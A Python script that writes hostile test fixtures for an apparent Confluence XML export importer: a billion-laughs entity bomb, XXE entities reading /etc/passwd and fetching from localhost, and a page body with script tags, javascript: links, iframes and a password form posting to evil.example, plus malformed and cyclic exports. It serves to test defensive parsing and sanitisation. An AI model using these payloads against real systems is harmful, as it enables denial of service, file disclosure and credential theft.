#!/usr/bin/env python3
"""Writes the hostile XML space exports of this folder (run from this folder).

Each folder is a tiny XML space export (entities.xml + exportDescriptor.properties)
with one hostile or broken property. The folders are committed, so tests do not need
Python; this script documents how each was made and regenerates them.
"""
import os

DESCRIPTOR = """exportType=space
spaceKey=XEVIL
source=server
"""

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'


def obj_space():
    return """<object class="Space" package="com.atlassian.confluence.spaces">
<id name="id">100</id>
<property name="name"><![CDATA[Evil XML]]></property>
<property name="key"><![CDATA[XEVIL]]></property>
<property name="homePage" class="Page" package="com.atlassian.confluence.pages"><id name="id">200</id></property>
</object>
"""


def obj_page(pid, title, parent=None, title_raw=False):
    t = title if title_raw else "<![CDATA[%s]]>" % title
    p = ""
    if parent:
        p = '<property name="parent" class="Page" package="com.atlassian.confluence.pages"><id name="id">%s</id></property>\n' % parent
    return """<object class="Page" package="com.atlassian.confluence.pages">
<id name="id">%s</id>
<property name="title">%s</property>
<property name="space" class="Space" package="com.atlassian.confluence.spaces"><id name="id">100</id></property>
%s<property name="version">1</property>
<property name="contentStatus"><![CDATA[current]]></property>
</object>
""" % (pid, t, p)


def obj_body(bid, owner, body, raw=False):
    b = body if raw else "<![CDATA[%s]]>" % body
    return """<object class="BodyContent" package="com.atlassian.confluence.core">
<id name="id">%s</id>
<property name="body">%s</property>
<property name="content" class="Page" package="com.atlassian.confluence.pages"><id name="id">%s</id></property>
<property name="bodyType">2</property>
</object>
""" % (bid, b, owner)


def write(folder, text):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "entities.xml"), "w", encoding="utf-8", newline="\n") as f:
        f.write(text)
    with open(os.path.join(folder, "exportDescriptor.properties"), "w", newline="\n") as f:
        f.write(DESCRIPTOR)


def doc(doctype, objects):
    return HEAD + doctype + '<hibernate-generic datetime="2026-01-01 00:00:00">\n' + "".join(objects) + "</hibernate-generic>\n"


# Billion laughs: ten levels of ten; expanded it would be 10^9 "lol"s (3 GB).
LAUGHS = '<!DOCTYPE hibernate-generic [\n<!ENTITY lol "lol">\n'
prev = "lol"
for i in range(1, 10):
    name = "lol%d" % i
    LAUGHS += '<!ENTITY %s "%s">\n' % (name, ("&%s;" % prev) * 10)
    prev = name
LAUGHS += "]>\n"
write("xml-entity-bomb", doc(LAUGHS, [
    obj_space(),
    obj_page(200, "Home &lol9;", title_raw=True),
    obj_body(300, 200, "<p>Body &amp;lol9; stays text.</p>"),
    obj_body(301, 201, "&lt;p&gt;Raw &lol9; reference in the property text.&lt;/p&gt;", raw=True),
    obj_page(201, "Laughs", parent=200),
]))

# External entities: a local file and a URL (the test uses its own listener too).
XXE = """<!DOCTYPE hibernate-generic [
<!ENTITY local SYSTEM "file:///etc/passwd">
<!ENTITY remote SYSTEM "http://127.0.0.1:9/xxe">
<!ENTITY % param SYSTEM "http://127.0.0.1:9/param.dtd">
%param;
]>
"""
write("xml-external-entity", doc(XXE, [
    obj_space(),
    obj_page(200, "Home &local;", title_raw=True),
    obj_body(300, 200, "&lt;p&gt;Local: &local; Remote: &remote;&lt;/p&gt;", raw=True),
]))

# A page body (storage format) with its own DOCTYPE, entity bomb and active content.
BODY = """<!DOCTYPE x [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<p>Kept first paragraph. &c;</p>
<script>steal()</script>
<p onclick="steal()">Kept clickable paragraph.</p>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf"/>
<form action="https://evil.example/post"><input name="pw"/></form>
<style>p { display: none }</style>
<p><a href="javascript:steal()">js link</a> <a href="vbscript:msgbox(1)">vb link</a> <a href="data:text/html;base64,PHNjcmlwdD4=">data link</a> <a href="https://example.com/safe">safe link</a></p>
<ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>steal()</script>]]]]><![CDATA[></ac:plain-text-body></ac:structured-macro>
<ac:image><ri:url ri:value="javascript:steal()"/></ac:image>
<p>Last kept paragraph.</p>
"""
write("xml-unsafe-body", doc("", [
    obj_space(),
    obj_page(200, "Unsafe"),
    obj_body(300, 200, BODY),
]))

# Parent cycle: 201 -> 202 -> 201 (and a page that is its own parent).
write("xml-parent-cycle", doc("", [
    obj_space(),
    obj_page(200, "Home"),
    obj_body(300, 200, "<p>Home.</p>"),
    obj_page(201, "Ping", parent=202),
    obj_body(301, 201, "<p>Ping.</p>"),
    obj_page(202, "Pong", parent=201),
    obj_body(302, 202, "<p>Pong.</p>"),
    obj_page(203, "Self", parent=203),
    obj_body(303, 203, "<p>Self.</p>"),
]))

# Malformed: a mismatched end tag in the middle of the second object.
bad = doc("", [obj_space(), obj_page(200, "Home")])
bad = bad.replace('<property name="version">1</property>', '<property name="version">1</proprety>')
write("xml-malformed", bad)

# Truncated: the file stops inside an object.
whole = doc("", [obj_space(), obj_page(200, "Home"), obj_body(300, 200, "<p>Home.</p>")])
write("xml-truncated", whole[: whole.index("<property name=\"bodyType\">")])

# Characters XML forbids (C0 controls) in a title and a body, as real exports have.
write("xml-control-chars", doc("", [
    obj_space(),
    obj_page(200, "Home\x01\x08 page"),
    obj_body(300, 200, "<p>Bell\x07 and escape\x1b kept as text.</p>"),
]))
